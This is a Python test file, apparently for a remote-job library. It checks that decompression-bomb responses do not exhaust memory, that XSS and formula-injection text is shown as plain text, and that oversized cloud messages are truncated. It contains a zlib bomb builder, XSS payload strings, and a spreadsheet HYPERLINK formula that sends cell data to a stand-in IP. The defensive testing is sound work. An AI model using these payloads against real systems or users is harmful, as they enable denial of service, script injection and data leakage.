"""Promise 11: outside text stays text. The tests of the dashboard cover the widget."""

from __future__ import annotations

import base64
import json
import zlib

import pytest
from ipywidgets import Widget
from unruly import UnrulyCloud

from jobgroup import JobGroup, RemoteJob, set_token

SCRIPT = "</script><script>alert(1)</script><img src=x onerror=alert(2)>"
FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1)'
MEASURED = """
import resource
def rss_mb():
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024
"""


def endless(block_mb: int, blocks: int) -> bytes:
    """Raw deflate data that unpacks to this many blocks of zeros. A block can be repeated
    unchanged.
    """
    packer = zlib.compressobj(9, wbits=-15)
    block = packer.compress(bytes(block_mb << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return block * blocks


@pytest.fixture
def unruly():
    """A cloud whose responses the test chooses."""
    with UnrulyCloud() as running:
        set_token(running.token, url=running.url)
        yield running


def test_endless_answers_do_not_fill_the_memory(unruly, child):
    """Responses that unpack to gigabytes affect only their jobs: states, rejections, and a
    result.
    """
    bomb = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff" + endless(32, 48)
    assert len(bomb) < 5_000_000
    reported = {("status", f"job-{n}"): (200 + 300 * (n % 2), bomb) for n in range(1, 5)}
    reported["result", "job-5"] = (200, bomb)
    gzip = {"Content-Encoding": "gzip"}
    unruly.answer = lambda call, job_id: (
        (*reported[call, job_id], gzip) if (call, job_id) in reported else None
    )
    bombed = child(
        MEASURED
        + """
import warnings
warnings.simplefilter("ignore")
set_token(token, url=url)
jg = JobGroup("bombed")
jg.add_many([RemoteJob({"c": 1}, platform="p", url=url, name=str(n)) for n in range(6)])
jg.run_parallel()
before = rss_mb()
jg.refresh()
results = jg.get_results()
fetched = [j.id for j, result in zip(jg, results) if result is not None]
say([rss_mb() - before, {j.id: j.state for j in jg}, fetched])
""",
        url=unruly.url,
        token=unruly.token,
    )
    ((grown_mb, states, fetched),) = bombed.all(timeout_s=300)
    assert grown_mb < 900
    assert {i for i, state in states.items() if state == "success"} == {"job-5", "job-6"}
    assert "job-6" in fetched


def test_a_bomb_in_a_stored_body_does_not_fill_the_memory(unruly, child):
    """A body in a colleague's file that unpacks to gigabytes is not sent. The next job is sent."""
    blob = b"\x78\xda" + endless(32, 48)
    bombed = child(
        MEASURED
        + """
import base64, sqlite3
from jobgroup.store.paths import group_path
set_token(token, url=url)
jg = JobGroup("bombed")
jg.add_many([RemoteJob({"c": 1, "n": n}, platform="p", url=url, name=str(n)) for n in range(2)])
file = sqlite3.connect(group_path("bombed"))
file.execute("UPDATE payloads SET body = ? WHERE id = 1", (base64.b64decode(blob),))
file.commit()
file.close()
before = rss_mb()
try:
    jg.run_parallel(queue=True)
except JobGroupError:
    pass
say([rss_mb() - before, [j.state for j in jg]])
""",
        url=unruly.url,
        token=unruly.token,
        blob=base64.b64encode(blob).decode(),
    )
    ((grown_mb, states),) = bombed.all()
    assert grown_mb < 700
    assert states[0] == "unsent"
    assert states[1] != "unsent"
    assert unruly.count("create") == 1


def test_a_bomb_in_a_result_does_not_fill_the_memory(unruly, child):
    """A packed text of Perceval that would unpack to gigabytes is not unpacked."""
    packed = b"\x78\xda" + endless(32, 48)
    texts = {
        f"job-{n}": json.dumps({"results": f"{mark}{base64.b64encode(packed).decode()}"})
        for n, mark in enumerate((":PCVL:zip:", "pcvlar:zip:"), 1)
    }
    unruly.answer = lambda call, job_id: (
        (200, {"results": texts[job_id]}) if call == "result" and job_id in texts else None
    )
    bombed = child(
        MEASURED
        + """
import perceval, warnings
warnings.simplefilter("ignore")
set_token(token, url=url)
jg = JobGroup("bombed")
jg.add_many([RemoteJob({"c": 1}, platform="p", url=url, name=str(n)) for n in range(3)])
jg.run_parallel()
jg.wait(120)
before = rss_mb()
results = jg.get_results()
fetched = [j.id for j, result in zip(jg, results) if result is not None]
say([rss_mb() - before, fetched])
""",
        url=unruly.url,
        token=unruly.token,
    )
    ((grown_mb, fetched),) = bombed.all(timeout_s=300)
    assert grown_mb < 700
    assert "job-3" in fetched


def test_texts_of_clouds_and_users_are_shown_as_text(group, job, cloud, caplog):
    """Names, messages, notes and labels with markup keep every character, and no page treats them
    as markup.
    """
    jg = JobGroup(SCRIPT)
    for text in (SCRIPT, FORMULA):
        jg.add(job(text, url=cloud.url, fail=text), labels={text: text})
    jg.run_parallel()
    jg.wait(120)
    for text, one in zip((SCRIPT, FORMULA), jg, strict=True):
        one.note = text
        assert (one.name, one.message, one.note, one.labels) == (text, text, text, {text: text})
        assert text in one.attempts[0].message
    bundle = jg._repr_mimebundle_()
    Widget.close_all()  # no browser closes the widgets
    data = bundle[0] if isinstance(bundle, tuple) else bundle
    page = data.get("text/html", "")
    assert "<script>alert" not in page
    assert "<img src=x" not in page
    assert JobGroup.list_existing() == [SCRIPT]


def test_a_long_sentence_is_kept_short(unruly):
    """If a cloud sends megabytes about a job, the group does not grow by megabytes."""
    jg = JobGroup("verbose")
    for n in range(3):
        jg.add(RemoteJob({"c": 1}, platform="p", url=unruly.url, name=str(n)))
    jg.run_parallel()
    long = {"status": "error", "status_message": "x" * 3_000_000}
    unruly.answer = lambda call, job_id: (200, long) if call == "status" else None
    jg.refresh()
    assert [j.state for j in jg] == ["error"] * 3
    assert all(0 < len(j.message or "") <= 10_000 for j in jg)
    assert JobGroup.summaries()[0].size_bytes < 500_000
